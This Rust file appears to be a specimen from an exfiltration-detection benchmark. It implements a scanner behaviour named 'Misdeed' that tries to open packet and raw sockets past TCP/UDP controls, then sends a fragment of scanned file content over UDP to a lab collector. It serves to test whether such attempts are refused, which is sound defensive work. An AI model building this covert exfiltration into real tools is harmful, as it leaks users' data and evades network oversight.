//! The scanner looks for a way below the protocols before it sends. ExfilBench F04, ATT&CK T1095.
//!
//! A packet socket puts frames on the link past every rule for TCP and UDP. The specimen asks for one
//! and for a raw one, gives them back unused, and sends a fragment in a datagram: what the lab must
//! show is the attempt, and that it was refused. The twin asks for nothing.

use std::net::UdpSocket;
use std::path::Path;

use rustix::net::{AddressFamily, RawProtocol, SocketFlags, SocketType};

use super::{Conduct, Loot, Trouble};
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::Tally;

/// `IPPROTO_RAW` of `linux/in.h`.
const RAW: Option<RawProtocol> = RawProtocol::new(255);

/// Bytes in the datagram: it fits the link unsplit.
const DATAGRAM_BYTES: usize = 1200;

/// Asks and sends.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Text)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        for (family, protocol) in [(AddressFamily::PACKET, None), (AddressFamily::INET, RAW)] {
            let protocol = protocol.map(rustix::net::Protocol::from_raw);
            // Granted or refused, the attempt is what there is to see.
            drop(rustix::net::socket_with(family, SocketType::RAW, SocketFlags::CLOEXEC, protocol));
        }
        let collector = self.0.lab.collector()?;
        let fragment = self.0.document()?.fragment();
        let datagram = fragment.get(..DATAGRAM_BYTES).unwrap_or(fragment);
        UdpSocket::bind("0.0.0.0:0")?.send_to(datagram, collector.address)?;
        Ok(())
    }
}
